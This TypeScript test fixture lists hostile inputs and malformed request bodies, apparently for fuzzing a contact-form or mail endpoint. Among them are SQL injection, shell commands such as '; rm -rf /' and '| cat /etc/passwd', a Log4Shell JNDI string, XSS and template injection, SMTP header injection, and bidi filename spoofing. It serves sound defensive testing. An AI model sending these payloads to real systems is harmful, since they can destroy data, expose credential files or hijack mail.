const range = (first: number, last: number) =>
  Array.from({ length: last - first + 1 }, (_, index) => first + index);

/** C0 and C1 control characters, each inside a word. */
const controlCharacters = [...range(0x00, 0x1f), ...range(0x7f, 0x9f)].map(
  (code) => `a${String.fromCharCode(code)}b`,
);

const lineBreaks = ['\r', '\n', '\r\n', '\n\r', '\u0085', '\u2028', '\u2029', '\v', '\f', '%0d%0a'];

const injections = lineBreaks.flatMap((lineBreak) =>
  [
    'Bcc: everyone@example.com',
    '.',
    '.\r\nMAIL FROM:<evil@example.com>',
    'QUIT',
    ' folded header',
    '',
  ].flatMap((line) => [`Ada${lineBreak}${line}`, `${lineBreak}${line}${lineBreak}Ada`]),
);

const markup = [
  ...['<script>alert(1)</script>', '</textarea><script>alert(1)</script>'],
  ...['"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>"],
  ...['<a href="javascript:alert(1)">x</a>', '<!-- comment --!>', '<![CDATA[ x ]]>'],
  ...['<style>*{display:none}</style>', '</style></title></head>', '<base href=//evil.example>'],
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  ...['<form action=//evil.example><button>', '&lt;b&gt;&amp;&quot;&#39;&#x3c;', '<b', '&'],
  ...['&&amp;amp;', '<plaintext>', '{{constructor.constructor("alert(1)")()}}'],
  ...['$'.concat('{alert(1)}'), '<%= 7*7 %>', '#{7*7}'],
];

const languages = [
  ...['العربية مرحبا', 'שלום עולם', '\u202eevil\u202c txt.exe', '\u2066\u2067mixed\u2069\u2069'],
  ...[
    '\u200b\u200c\u200d\ufeff',
    '漢字かな交じり文',
    '한국어 텍스트',
    'ภาษาไทย',
    'हिन्दी',
    'Ελληνικά',
  ],
  ...['Кириллица', 'ÀÉÎÕÜ ßẞ ŀl·l ñ ¿¡', 'e\u0301 vs é'],
  ...[`Z${'\u0300\u0301\u0302\u0303'.repeat(20)}algo`, '😀', '👩‍👩‍👧‍👦', '🏳️‍🌈 🇪🇸 👍🏽', '𝕳𝖊𝖑𝖑𝖔'],
  ...['\u{10ffff}\u{fffe}\uffff\ufdd0', '\ue000\uf8ff', '\u00ad soft\u00adhyphen'],
  ...['\u00a0nbsp\u00a0', '\u3000ideographic\u3000', '\ufffd', 'ﷺ', '\u1680\u180e'],
];

const programs = [
  ...["'; DROP TABLE messages; --", "' OR '1'='1", '1); DELETE FROM messages', '" OR ""="'],
  ...['`id`', '$(reboot)', '; rm -rf /', '| cat /etc/passwd', '../../../../etc/passwd'],
  ...['C:\\Windows\\system32', 'file:///etc/passwd', '%00', '%s%s%n%x'],
  ...['{name} {max} {owner}', '\\u0000\\n\\r', '\\', '"', "'", '=1+1', '@SUM(A1)'],
  ...['() { :; }; echo', '$'.concat('{jndi:ldap://evil.example/a}')],
  ...['null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '[object Object]', '__proto__'],
  ...['constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'],
];

const mailTricks = [
  ...['=?utf-8?B?SGVsbG8=?=', '=?utf-8?Q?=0D=0ABcc:_all@example.com?='],
  ...['=?iso-8859-1?Q?a?= =?utf-8?Q?b?=', '"Ada" <ada@example.com>, eve@example.com'],
  ...['Ada, Eve; Group: a@example.com;', '(comment) Ada', 'Ada\\"quote'],
  ...['--boundary\n--boundary--', '----_NmP-1234567890-Part_1', '-- \nsignature'],
  ...['.\n.\n..\n...', '\n.\n', 'From the start of a line', '>From quoted', '> quoted\n>> twice'],
  ...['trailing spaces   \n   \nleading', 'tab\tseparated\t\t', '=3D=20=\nsoft'],
  `${'x'.repeat(998)}\n${'y'.repeat(1500)}`,
];

const addresses = [
  ...['a@b', 'A.B+C@EXAMPLE.COM', '.@example.com', '..a..@example.com'],
  ...["!#$%&'*+/=?^_`{|}~-@example.com", `${'a'.repeat(200)}@example.com`],
  ...[`${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.com`, 'a@1.2.3.4'],
  ...['a@xn--nxasmq6b.example', 'a@example.com.', 'a@.example.com', 'a@exa_mple.com'],
  ...['a@[127.0.0.1]', 'a@b@c', '<a@b>', 'a@b\u0000.example', 'a@b.example\nBcc:c@d'],
  ...['a@b.example,c@d', 'a b@c', 'ä@example.com', 'a@bücher.example', 'postmaster', '@'],
  ...['mailto:a@b', 'root@localhost'],
];

const lengths = [99, 100, 101, 253, 254, 255, 998, 999, 4999, 5000, 5001, 20_000].flatMap(
  (length) => [
    'x'.repeat(length),
    'é'.repeat(length),
    '😀'.repeat(Math.ceil(length / 2)),
    'word '.repeat(Math.ceil(length / 5)),
    ' '.repeat(length),
  ],
);

export const hostileValues: readonly string[] = [
  ...controlCharacters,
  ...injections,
  ...markup,
  ...languages,
  ...programs,
  ...mailTricks,
  ...addresses,
  ...lengths,
];

const bytes = (...codes: number[]) => new Uint8Array(codes);
const form = 'application/x-www-form-urlencoded';
const open = '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\n';

type Body = readonly [type: string, body: string | Uint8Array<ArrayBuffer>];

/** By the status that says why they are refused. */
const brokenByStatus: Readonly<Record<number, readonly Body[]>> = {
  400: [
    ...[
      ...['', '{', '}', '[]', '[{"name":"a"}]', 'null', 'true', '1', '"text"', '{"name":}'],
      ...["{'name':'a'}", '{"name":"a",}', '{"name":"\n"}'],
      '{"name":"\\ud800","email":"a@b","message":"x"}',
      '{"name":"a","email":"a@b","message":"\\udc00"}',
      '{"name":["a"],"email":"a@b","message":"x"}',
      ...['{"name":{"a":1},"email":"a@b","message":"x"}', '{"name":1,"email":2,"message":3}'],
      '{"name":true,"email":"a@b","message":"x"}',
      `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
      ...['{"name":"a"}{"name":"b"}', '\u0000', 'name=a&email=a@b&message=x'],
    ].map((body) => ['application/json', body] as const),
    ...[
      bytes(0xff, 0xfe),
      bytes(0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d),
      bytes(0xed, 0xa0, 0x80),
    ].flatMap((body) => ['application/json', form].map((type) => [type, body] as const)),
    ...[
      ...['%', '%zz=1', 'name=%', 'name=%f', 'name=%ff', 'name=%c3%28', 'name=%ed%a0%80'],
      ...['name=a&name=b', 'name=Zn%E4me&email=a@b&message=x'],
    ].map((body) => [form, body] as const),
  ],
  413: [
    ['application/json', `{"message":"${'x'.repeat(400_000)}"}`],
    [form, `message=${'x'.repeat(400_000)}`],
  ],
  415: [
    ['multipart/form-data; boundary=x', `${open}a\r\n--x--\r\n`],
    ['text/plain', '{"name":"a"}'],
    ['application/xml', '<a/>'],
    ['application/json; charset=utf-16', '{}'],
    ['', '{}'],
    ['/', '{}'],
  ],
  422: [
    ['application/json', `{"a":${'{"a":'.repeat(3000)}1${'}'.repeat(3001)}`],
    ['application/json', `{"message":"${'x'.repeat(40_000)}"}`],
    [form, `message=${'x'.repeat(120_000)}`],
  ],
};

/** Bodies that are broken in themselves: status, type, then body. */
export const brokenBodies = Object.entries(brokenByStatus).flatMap(([status, bodies]) =>
  bodies.map(([type, body]) => [Number(status), type, body] as const),
);
